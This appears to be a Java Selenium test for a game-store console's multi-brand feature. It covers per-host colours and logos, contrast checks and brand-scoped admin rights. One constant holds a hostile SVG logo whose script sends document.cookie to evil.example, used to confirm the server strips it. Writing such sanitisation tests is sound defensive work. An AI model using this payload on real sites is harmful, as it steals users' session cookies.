package dev.veltrix.server.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.support.ui.Select;

/**
 * Two brands made in the console, the same storefront opened under each one's host name: each shows its own name,
 * colours, font and logo (screenshots kept in target/screenshots); a hostile SVG logo is served without its script;
 * an unreadable palette is refused with its failing pairs and a fix for each.
 */
class BrandingBrowserTest extends SignedInConsole {
    private static final String HOSTILE_SVG = """
            <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(document.cookie)">
              <script>fetch('https://evil.example/?c=' + document.cookie)</script>
              <circle cx="5" cy="5" r="4" fill="#5fd38d"/>
            </svg>
            """;
    @BeforeAll
    static void catalog() {
        for (String category : new String[] {"ranks", "kits"}) {
            assertThat(node.put("/api/v1/store/categories/" + category, "{\"name\":\"" + category.toUpperCase() + "\"}").statusCode()).isEqualTo(200);
            var pkg = node.put("/api/v1/store/packages/" + category + "-1", "{\"category\":\"" + category + "\",\"name\":\"Best " + category
                    + "\",\"currency\":\"coins\",\"price\":100,\"deliverables\":[{\"type\":\"currency\",\"currency\":\"coins\",\"amount\":1}]}");
            assertThat(pkg.statusCode()).as(pkg.body()).isEqualTo(200);
        }
    }

    @Test
    void eachHostShowsItsOwnBrandAndAHostileLogoIsDefused() throws Exception {
        Path logo = Files.createTempFile("logo", ".svg");
        Files.writeString(logo, HOSTILE_SVG);
        // An unreadable palette is saved as a draft but refused at publishing, with a fix for each failing pair.
        makeBrand("pale", "Pale Place", Map.of("background", "#ffffff", "surface", "#f4f4f4", "text", "#aaaaaa", "muted", "#cccccc",
                "primary", "#7fb3ff", "onPrimary", "#ffffff"), "pale.test", "", null, "system");
        assertThat(browser.findElement(By.id("contrast-failures")).getText()).contains("text on background is 2.32:1; it needs 4.5:1 (try text #");
        browser.findElement(By.id("publish-brand")).click();
        Browser.awaitText(browser, By.id("brand-error"), "fails WCAG 2.1 AA contrast and was not published");

        makeBrand("emerald", "Emerald Isle", Map.of("background", "#0b1f14", "surface", "#12301f", "text", "#e9f5ec", "muted", "#a9c9b4",
                "primary", "#5fd38d", "onPrimary", "#06210f"), "alpha.test", "ranks", logo, "humanist");
        assertThat(browser.findElement(By.id("contrast-ok")).getText()).contains("Every pair passes");
        browser.findElement(By.id("publish-brand")).click();
        Browser.awaitText(browser, By.id("brand-notice"), "Published");
        makeBrand("ruby", "Ruby Realm", Map.of("background", "#fff7f7", "surface", "#ffffff", "text", "#2b0a0f", "muted", "#6b3a42",
                "primary", "#b3122e", "onPrimary", "#ffffff"), "beta.test", "", null, "serif");
        browser.findElement(By.id("publish-brand")).click();
        Browser.awaitText(browser, By.id("brand-notice"), "Published");

        int port = node.node.port();
        browser.get("http://alpha.test:" + port + "/store");
        Browser.awaitText(browser, By.id("brand-name"), "Emerald Isle");
        assertThat(style("backgroundColor")).isEqualTo("rgb(11, 31, 20)");
        assertThat(style("color")).isEqualTo("rgb(233, 245, 236)");
        assertThat(browser.findElement(By.id("brand-logo")).getAttribute("src")).contains("/brand/logo");
        assertThat(browser.findElement(By.tagName("main")).getText()).as("emerald shows only ranks").contains("Best ranks").doesNotContain("Best kits");
        assertThat(browser.getTitle()).endsWith("· Emerald Isle");
        Browser.screenshot(browser, "brand-alpha");

        browser.get("http://beta.test:" + port + "/store");
        Browser.awaitText(browser, By.id("brand-name"), "Ruby Realm");
        assertThat(style("backgroundColor")).isEqualTo("rgb(255, 247, 247)");
        assertThat(style("fontFamily")).contains("Charter");
        assertThat(browser.findElements(By.id("brand-logo"))).isEmpty();
        assertThat(browser.findElement(By.tagName("main")).getText()).contains("Best ranks", "Best kits");
        Browser.screenshot(browser, "brand-beta");

        browser.get("http://gamma.test:" + port + "/store");
        Browser.awaitText(browser, By.id("brand-name"), "Veltrix");

        browser.get("http://alpha.test:" + port + "/brand/logo");
        String served = browser.getPageSource();
        assertThat(served).contains("circle").doesNotContain("<script", "onload", "evil.example");
        browser.get("http://alpha.test:" + port + "/legal/terms");
        Browser.awaitText(browser, By.tagName("h1"), "Terms of service");
        assertThat(browser.findElement(By.tagName("main")).getText()).contains("Play fair on Emerald Isle.");
    }

    @Test
    void anAdminOfOneBrandEditsThatBrandAndNothingElse() throws Exception {
        makeBrand("onyx", "Onyx", Map.of("background", "#101010", "surface", "#1c1c1c", "text", "#f2f2f2", "muted", "#a0a0a0",
                "primary", "#8ab4ff", "onPrimary", "#0a0a0a"), "onyx.test", "", null, "system");
        makeBrand("pearl", "Pearl", Map.of("background", "#fdfcf8", "surface", "#ffffff", "text", "#1d1d1b", "muted", "#5a5a55",
                "primary", "#2450a6", "onPrimary", "#ffffff"), "pearl.test", "", null, "system");
        new dev.veltrix.server.auth.AdminStore(node.node.database(), java.time.Clock.systemUTC())
                .createForBrand("onyx-admin", "a-one-time-password-for-onyx", "onyx");
        // The brand's admin in a browser of their own; the owner's stays signed in for the other tests.
        var admin = Browser.start();
        try {
            admin.get(node.baseUrl + "/console");
            type(admin, "username", "onyx-admin");
            type(admin, "password", "a-one-time-password-for-onyx");
            admin.findElement(By.cssSelector("main form button[type=submit]")).click();
            Browser.awaitText(admin, By.tagName("h1"), "password");
            type(admin, "password", "onyx is a dark and shiny stone");
            admin.findElement(By.cssSelector("main form button[type=submit]")).click();
            Browser.awaitText(admin, By.tagName("h1"), "Brand Onyx");
            assertThat(admin.findElements(By.id("default-brand"))).as("the default is the owner's choice").isEmpty();
            type(admin, "name", "Onyx Prime");
            admin.findElement(By.id("save-brand")).click();
            Browser.awaitText(admin, By.id("brand-notice"), "Saved as the draft");
            admin.get(node.baseUrl + "/console/brands/pearl");
            assertThat(admin.getPageSource()).contains("you administer brand onyx only").doesNotContain("Brand Pearl");
            admin.get(node.baseUrl + "/console/store");
            assertThat(admin.getPageSource()).contains("you administer brand onyx only");
        } finally {
            admin.quit();
        }
    }

    private static String style(String property) {
        return (String) browser.executeScript("return getComputedStyle(document.body)[arguments[0]];", property);
    }

    private static void makeBrand(String id, String name, Map<String, String> colours, String host, String categories, Path logo, String font) {
        browser.get(node.baseUrl + "/console/brands/new");
        Browser.awaitText(browser, By.tagName("h1"), "New brand");
        type("id", id);
        type("name", name);
        colours.forEach(BrandingBrowserTest::type);
        type("hosts", host);
        type("categories", categories);
        new Select(browser.findElement(By.name("font"))).selectByValue(font);
        if (logo != null) {
            browser.findElement(By.name("logo")).sendKeys(logo.toString());
        }
        type("terms", "Play fair on " + name + ".");
        browser.findElements(By.name("link.label")).getFirst().sendKeys("Discord");
        browser.findElements(By.name("link.url")).getFirst().sendKeys("https://discord.gg/" + id);
        browser.findElement(By.id("save-brand")).click();
        Browser.awaitText(browser, By.tagName("h1"), "Brand " + name);
    }

    private static void type(String name, String value) {
        type(browser, name, value);
    }

    private static void type(org.openqa.selenium.WebDriver in, String name, String value) {
        var field = in.findElement(By.name(name));
        field.clear();
        field.sendKeys(value);
    }
}
